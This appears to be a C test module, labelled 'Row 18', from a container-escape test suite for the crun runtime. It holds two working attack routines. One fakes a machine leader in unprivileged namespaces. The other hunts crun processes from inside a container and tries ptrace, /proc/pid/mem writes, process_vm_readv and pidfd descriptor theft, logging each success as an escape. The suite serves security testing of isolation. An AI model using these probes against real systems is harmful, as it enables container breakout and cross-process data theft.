// Row 18: machines that are none, and processes of crun's that join a machine whose root is hostile.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#include "payload.h"

// On the host, as a user without rights (UID): is PID 1 of namespaces of its own with its root at TREE, as a machine's
// leader is. Says its number on the host.
static int impostor(int count, char **arguments) {
  if (count < 2) return 2;
  uid_t uid = (uid_t)atol(arguments[0]);
  if (setgroups(0, NULL) < 0 || setresgid(uid, uid, uid) < 0 || setresuid(uid, uid, uid) < 0) return 3;
  prctl(PR_SET_DUMPABLE, 1, 0, 0, 0);
  if (unshare(CLONE_NEWUSER) < 0) return perror("unshare"), 4;
  char map[64];
  overwrite("/proc/self/setgroups", "deny");
  snprintf(map, sizeof map, "0 %u 1\n", uid);
  if (!overwrite("/proc/self/uid_map", map) || !overwrite("/proc/self/gid_map", map)) return perror("map"), 5;
  if (unshare(CLONE_NEWPID | CLONE_NEWNS) < 0) return perror("unshare"), 6;
  pid_t child = fork();
  if (child == 0) {
    if (chroot(arguments[1]) < 0 || chdir("/") < 0) return perror("chroot"), 7;
    prctl(PR_SET_NAME, "systemd", 0, 0, 0);
    wait_for_ever();
  }
  printf("%d\n", child);
  fflush(stdout);
  waitpid(child, NULL, 0);
  return 0;
}

// In a machine, as its root: hunts for crun's processes as they come, and does with them all that it can, until it is
// killed. What it got is written to /hunted.
static int hunt(int count, char **arguments) {
  (void)count;
  (void)arguments;
  int log = open("/hunted", O_WRONLY | O_CREAT | O_APPEND, 0600);
  dprintf(log, "hunting\n");
  for (;;) {
    DIR *processes = opendir("/proc");
    if (processes == NULL) return 1;
    for (struct dirent *entry = readdir(processes); entry != NULL; entry = readdir(processes)) {
      char path[300];
      int pid = atoi(entry->d_name);
      if (pid <= 1 || pid == getpid()) continue;
      snprintf(path, sizeof path, "/proc/%d/comm", pid);
      if (strncmp(text_of(path), "crun-", 5) != 0) continue;
      dprintf(log, "seen\n");
      char byte = 0;
      struct iovec local = {&byte, 1}, remote = {(void *)0x400000, 1};
      if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0) dprintf(log, "ESCAPED row 18 traced %d\n", pid);
      if (process_vm_readv(pid, &local, 1, &remote, 1, 0) > 0) dprintf(log, "ESCAPED row 18 read %d\n", pid);
      snprintf(path, sizeof path, "/proc/%d/mem", pid);
      int memory = open(path, O_RDWR);
      if (memory >= 0) dprintf(log, "ESCAPED row 18 memory of %d\n", pid), close(memory);
      int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
      for (int fd = 0; pidfd >= 0 && fd < 16; fd++) {
        int theirs = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);
        if (theirs >= 0) dprintf(log, "ESCAPED row 18 descriptor %d of %d\n", fd, pid), close(theirs);
        snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
        if (readlink(path, (char[64]){0}, 64) > 0) dprintf(log, "ESCAPED row 18 link of descriptor %d of %d\n", fd, pid);
      }
      if (pidfd >= 0) close(pidfd);
      static const char *const links[] = {"exe", "root", "cwd"};
      for (size_t i = 0; i < 3; i++) {
        snprintf(path, sizeof path, "/proc/%d/%s", pid, links[i]);
        if (readlink(path, (char[64]){0}, 64) > 0) dprintf(log, "ESCAPED row 18 %s of %d\n", links[i], pid);
      }
    }
    closedir(processes);
  }
}

const struct attack machine_attacks[] = {{"impostor", impostor}, {"hunt", hunt}, {NULL, NULL}};
